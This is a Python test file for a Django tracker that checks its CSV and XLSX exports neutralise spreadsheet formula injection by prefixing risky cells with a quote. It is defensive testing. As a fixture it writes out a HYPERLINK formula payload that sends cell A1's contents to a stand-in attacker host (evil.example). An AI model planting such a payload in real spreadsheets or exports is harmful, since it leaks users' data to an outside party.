"""Issue 10, item 4: no export lets a spreadsheet run a cell as a formula; the data itself is unchanged."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from commitments.models import Report
from corfu_tracker.spreadsheets import spreadsheet_safe
from tests.scorecards.factories import scorecard

from .conftest import verified_report

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1, "Click")'


def csv_rows(response) -> list[dict]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_starting_a_formula_is_prefixed_with_a_quote(start):
    assert spreadsheet_safe(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["Plain text", "", None, -3.5, 0, "a=b"])
def test_other_values_are_unchanged(value):
    assert spreadsheet_safe(value) == value


@pytest.fixture
def formula_report(austria, elections):
    return verified_report(state=austria, commitment=elections, summary=HYPERLINK, citation="@SUM(A1:A9)")


def test_api_reports_csv_neutralises_a_formula_summary(anon, formula_report):
    (row,) = csv_rows(anon.get("/api/v1/reports/", {"format": "csv"}))

    assert row["summary"] == "'" + HYPERLINK
    formula_report.refresh_from_db()
    assert formula_report.summary == HYPERLINK


def test_api_scorecards_csv_keeps_negative_numbers_as_numbers(anon, austria, human):
    scorecard(austria, "2010-Q2", human, score=40, trend=-3.5)

    (row,) = csv_rows(anon.get("/api/v1/scorecards/", {"format": "csv"}))

    assert row["trend"] == "-3.5"


@pytest.fixture
def staff_client(client, admin_user):
    client.force_login(admin_user)
    return client


def admin_export(client, file_format: str):
    url = reverse("admin:commitments_report_export")
    form = client.get(url).context["form"]
    index = next(value for value, label in form.fields["format"].choices if str(label).lower() == file_format)
    data = {
        "format": str(index),
        "resource": "0",
        "export_items": [str(pk) for pk in Report.objects.values_list("pk", flat=True)],
        **{name: "on" for name in form.fields if name.startswith("reportexportresource_")},
    }
    return client.post(url, data)


def test_admin_csv_export_neutralises_formula_cells(staff_client, formula_report):
    (row,) = csv_rows(admin_export(staff_client, "csv"))

    assert row["summary"] == "'" + HYPERLINK
    assert row["citation"] == "'@SUM(A1:A9)"


def test_admin_xlsx_export_writes_a_formula_summary_as_text(staff_client, formula_report):
    response = admin_export(staff_client, "xlsx")

    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    summary = sheet.cell(row=2, column=header.index("summary") + 1)
    assert summary.data_type == "s"
    assert summary.value == "'" + HYPERLINK
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
